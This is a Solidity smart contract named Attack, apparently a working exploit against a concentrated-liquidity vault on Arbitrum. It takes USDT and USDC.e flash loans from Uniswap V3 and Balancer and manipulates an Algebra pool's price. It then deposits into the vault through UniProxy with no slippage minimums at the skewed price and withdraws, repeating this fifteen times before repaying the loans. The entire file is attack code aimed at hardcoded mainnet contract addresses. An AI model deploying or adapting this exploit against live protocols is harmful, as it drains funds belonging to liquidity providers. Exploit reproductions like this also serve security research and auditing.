// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {BalancerVault} from "../BalancerVault.sol";
import {Erc20} from "../Erc20.sol";
import {UniswapV3Pool} from "../UniswapV3Pool.sol";

interface AlgebraPool {
    function globalState() external view returns (uint160 sqrtPrice, int24, uint16, uint16, uint16, uint8, uint8, bool);
    function swap(address recipient, bool zeroToOne, int256 amount, uint160 limit, bytes calldata data) external;
}

interface UniProxy {
    function deposit(uint256 deposit0, uint256 deposit1, address to, address vault, uint256[4] calldata min)
        external
        returns (uint256 shares);
}

interface Vault {
    function withdraw(uint256 shares, address to, address from, uint256[4] calldata min) external;
}

interface WrappedNative {
    function withdraw(uint256 amount) external;
}

/// Buys vault shares while the pool's price is pushed 27 % aside, sells them at once, and does so fifteen times.
contract Attack {
    UniProxy constant UNI_PROXY = UniProxy(0x1F1Ca4e8236CD13032653391dB7e9544a6ad123E);
    Vault constant VAULT = Vault(0x61A7b3dae70D943C6f2eA9ba4FfD2fEcc6AF15E4);
    AlgebraPool constant ALGEBRA = AlgebraPool(0x3AB5DD69950a948c55D1FBFb7500BF92B4Bd4C48);
    UniswapV3Pool constant WETH_USDT = UniswapV3Pool(0x641C00A822e8b671738d32a431a4Fb6074E5c79d);
    UniswapV3Pool constant WETH_USDCE = UniswapV3Pool(0xC31E54c7a869B9FcBEcc14363CF510d1c41fa443);
    BalancerVault constant BALANCER = BalancerVault(0xBA12222222228d8Ba445958a75a0704d566BF2C8);
    Erc20 constant USDT = Erc20(0xFd086bC7CD5C481DCC9C85ebE478A1C0b69FCbb9);
    Erc20 constant USDCE = Erc20(0xFF970A61A04b1cA14834A43f5dE4533eBDDB5CC8);
    Erc20 constant WETH = Erc20(0x82aF49447D8a07e3bd95BD0d56f35241523fBab1);

    uint256 constant USDT_LOAN = 3_000_000e6;
    uint256 constant USDCE_LOAN = 2_000_000e6;
    uint256 constant USDT_SOLD_LAST = 473_259_664_738;
    uint160 constant BACK_LIMIT = 83_949_998_135_706_271_822_084_553_181;
    uint160 constant MIN_SQRT_PRICE = 4_295_128_740;
    uint160 constant LAST_LIMIT = 4_526_582_309_038_291_990_822_582;

    function attack() external {
        USDT.approve(address(VAULT), type(uint256).max);
        USDCE.approve(address(VAULT), type(uint256).max);
        WETH_USDT.flash(address(this), 0, USDT_LOAN, "");
        WETH_USDCE.swap(address(this), false, int256(USDCE.balanceOf(address(this))), LAST_LIMIT, "");
        WrappedNative(address(WETH)).withdraw(WETH.balanceOf(address(this)));
    }

    function uniswapV3FlashCallback(uint256, uint256 fee, bytes calldata) external {
        address[] memory tokens = new address[](1);
        uint256[] memory amounts = new uint256[](1);
        (tokens[0], amounts[0]) = (address(USDCE), USDCE_LOAN);
        BALANCER.flashLoan(address(this), tokens, amounts, "");
        ALGEBRA.swap(address(this), true, int256(USDT_SOLD_LAST), MIN_SQRT_PRICE, "");
        USDT.transfer(address(WETH_USDT), USDT_LOAN + fee);
    }

    function receiveFlashLoan(address[] calldata, uint256[] calldata, uint256[] calldata, bytes calldata) external {
        for (uint256 i = 0; i < 15; i++) depositAtWrongPrice();
        int256 lacking = int256(USDCE_LOAN - USDCE.balanceOf(address(this)));
        ALGEBRA.swap(address(this), true, -lacking, MIN_SQRT_PRICE, "");
        USDCE.transfer(address(BALANCER), USDCE_LOAN);
    }

    function depositAtWrongPrice() private {
        uint256[4] memory noMinimum;
        (uint160 price,,,,,,,) = ALGEBRA.globalState();
        uint160 pushed = uint160(uint256(price) * 85_572 / 100_000);
        ALGEBRA.swap(address(this), true, int256(USDT.balanceOf(address(this))), pushed, "");
        uint256 shares = UNI_PROXY.deposit(1, 300_000e6, address(this), address(VAULT), noMinimum);
        VAULT.withdraw(shares, address(this), address(this), noMinimum);
        ALGEBRA.swap(address(this), false, int256(USDCE.balanceOf(address(this))), BACK_LIMIT, "");
        // Any deposit makes the vault take up its fees and place its position anew.
        UNI_PROXY.deposit(1, 1e6, address(this), address(VAULT), noMinimum);
    }

    function algebraSwapCallback(int256 usdtOwed, int256 usdceOwed, bytes calldata) external {
        if (usdtOwed > 0) USDT.transfer(msg.sender, uint256(usdtOwed));
        if (usdceOwed > 0) USDCE.transfer(msg.sender, uint256(usdceOwed));
    }

    function uniswapV3SwapCallback(int256, int256 usdceOwed, bytes calldata) external {
        USDCE.transfer(msg.sender, uint256(usdceOwed));
    }

    receive() external payable {}
}
